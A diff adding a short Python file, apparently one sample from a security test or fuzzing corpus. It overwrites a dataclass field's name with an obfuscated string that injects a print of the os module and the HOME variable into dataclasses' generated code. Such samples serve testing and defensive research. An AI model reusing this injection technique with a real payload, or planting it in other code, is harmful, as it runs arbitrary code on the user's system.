@@ -1,0 +1,35 @@
+# family: update_wrapper Field rename (param wrapped), dunder payload built with bytes([95,95]).decode() to print os module and HOME
+import dataclasses
+import functools
+
+
+@dataclasses.dataclass
+class Base:
+    a: int = 0
+    b: int = dataclasses.field(default=0, init=False, repr=False)
+
+
+class Label:
+    def __init__(self, name):
+        self.name = name
+
+
+def relabel(target, source):
+    try:
+        functools.update_wrapper(target, source, ("name",), ())
+    except AttributeError:
+        pass
+
+
+def run():
+    chosen = dataclasses.fields(Base)[1]
+    relabel(chosen, Label("b,print(" + bytes([95, 95]).decode() + "import" + bytes([95, 95]).decode() + "('os')," + bytes([95, 95]).decode() + "import" + bytes([95, 95]).decode() + "('os').environ['HOME'])"))
+
+    @dataclasses.dataclass(init=False, repr=False)
+    class Sub(Base):
+        c: int = 0
+
+    return Sub() == Sub()
+
+
+run()
